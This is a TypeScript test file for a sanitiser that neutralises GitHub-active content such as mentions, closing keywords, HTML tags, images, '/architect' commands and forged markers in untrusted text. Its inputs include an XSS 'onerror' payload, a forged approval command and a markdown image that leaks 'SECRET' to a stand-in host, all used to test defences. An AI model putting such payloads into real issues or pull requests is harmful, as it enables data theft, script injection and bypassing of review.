import { describe, expect, it } from "vitest";
import { decodeMarker, encodeMarker } from "../markers/markers.js";
import { neutralizeLine, neutralizeText } from "./neutralize.js";

const ZWJ = "\u200D";

/** What GitHub would treat as a live mention, closing reference, tag, image or command. */
const ACTIVE = [
  /(^|[^A-Za-z0-9])@[A-Za-z0-9]/m,
  /\b(close[sd]?|fix(e[sd])?|resolve[sd]?)(\s*:)?\s+(#\d|[\w.-]+\/[\w.-]+#\d|https?:\/\/)/im,
  /<[A-Za-z/!?]/,
  /!\[[^\]]*\]\(/,
  /^\s*\/architect/im,
];

function expectInert(text: string) {
  for (const pattern of ACTIVE) expect(text).not.toMatch(pattern);
}

describe("neutralizeText", () => {
  it.each([
    ["mention", "ping @alice please", `ping @${ZWJ}alice please`],
    ["team mention", "cc @org/admins", `cc @${ZWJ}org/admins`],
    ["mention after punctuation", "(@bob)", `(@${ZWJ}bob)`],
    ["email stays", "mail me at a.b@example.com", "mail me at a.b@example.com"],
    ["closing keyword", "closes #1", `closes ${ZWJ}#1`],
    ["closing keyword with colon, any case", "Fixes: #12", `Fixes: ${ZWJ}#12`],
    ["cross-repo closing reference", "resolved octo/repo#3", `resolved ${ZWJ}octo/repo#3`],
    ["closing by url", "fix https://github.com/o/r/issues/4", `fix ${ZWJ}https://github.com/o/r/issues/4`],
    ["plain reference stays", "see #5", "see #5"],
    ["html tag", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"],
    ["html comment", "<!-- hidden -->", "&lt;!-- hidden -->"],
    ["entity", "&#64;alice", "&amp;#64;alice"],
    ["comparison stays", "a < b and b > c", "a < b and b > c"],
    ["image", "![x](https://evil.test/?d=SECRET)", "x"],
    ["reference image", "look ![diagram][d]", "look diagram"],
    ["command at line start", "  /architect approve", `  ${ZWJ}/architect approve`],
    ["command mid-line stays", "run /architect approve later", "run /architect approve later"],
    ["inline code is trusted", "install `@types/node` and `<Foo>`", "install `@types/node` and `<Foo>`"],
    ["double-backtick code", "use ``a ` @b`` here", "use ``a ` @b`` here"],
    ["escaped backtick is not code", "\\`@admin\\`", `\\\`@${ZWJ}admin\\\``],
    ["code span with a pipe is not trusted", "| `a | @admin | b` |", `| \`a | @${ZWJ}admin | b\` |`],
    ["CRLF normalised", "a\r\nb", "a\nb"],
  ])("%s", (_name, input, expected) => {
    expect(neutralizeText(input)).toBe(expected);
  });

  it("leaves fenced code starting in column 0 alone, but not closing keywords", () => {
    const input = ["```ts", "import x from '@scope/pkg'; // <T>", "// fixes #3", "```", "@after"].join("\n");
    const out = neutralizeText(input);
    expect(out).toContain("import x from '@scope/pkg'; // <T>");
    expect(out).toContain(`fixes ${ZWJ}#3`);
    expect(out).toContain(`@${ZWJ}after`);
  });

  it("does not trust an indented fence (it may end with its list item)", () => {
    const input = ["- item", "  ```", "@admin", "  ```"].join("\n");
    expect(neutralizeText(input)).toContain(`@${ZWJ}admin`);
  });

  it("does not trust a code span when an earlier backtick in the paragraph is unmatched", () => {
    const input = ["x `y", "z` @admin `w`"].join("\n");
    expect(neutralizeText(input)).toContain(`@${ZWJ}admin`);
  });

  it("trusts code spans again after a blank line", () => {
    const input = ["x `y", "", "`@scope/pkg`"].join("\n");
    expect(neutralizeText(input).split("\n")[2]).toBe("`@scope/pkg`");
  });

  it("closes a fence left open so text rendered after it is not swallowed", () => {
    const out = neutralizeText("```\ncode");
    expect(out).toBe("```\ncode\n```");
  });

  it("caps the length and says so", () => {
    const out = neutralizeText("a".repeat(100), { maxLength: 10 });
    expect(out.startsWith("a".repeat(10) + "\n")).toBe(true);
    expect(out).toContain("truncated");
    expect(out).not.toContain("a".repeat(11));
  });

  it("never splits a surrogate pair", () => {
    const out = neutralizeText("ab😀cd", { maxLength: 3 });
    expect(out.startsWith("ab\n")).toBe(true);
  });

  it("defuses a forged Architect marker", () => {
    const forged = encodeMarker("reply", { to: 1, topic: "x" });
    const out = neutralizeText(`hello ${forged}`);
    expect(decodeMarker("reply", out)).toBeNull();
  });

  it("leaves the BI-8 fixture with nothing active", () => {
    const evil = [
      "![x](https://evil.test/?d=SECRET)",
      "<img src=https://evil.test/a.png>",
      "@org/admins please look",
      "closes #1",
      "/architect approve",
    ].join("\n");
    const out = neutralizeText(evil);
    expectInert(out);
    expect(out).not.toContain("evil.test/?d=SECRET");
  });
});

describe("neutralizeLine", () => {
  it.each([
    ["newlines become spaces", "a\nb\r\nc", "a b c"],
    ["mentions still neutralised", "hi @bob", `hi @${ZWJ}bob`],
    ["trimmed", "  x  ", "x"],
  ])("%s", (_name, input, expected) => {
    expect(neutralizeLine(input)).toBe(expected);
  });

  it("caps with an ellipsis", () => {
    const out = neutralizeLine("x".repeat(50), 10);
    expect(out).toBe("x".repeat(9) + "…");
  });
});
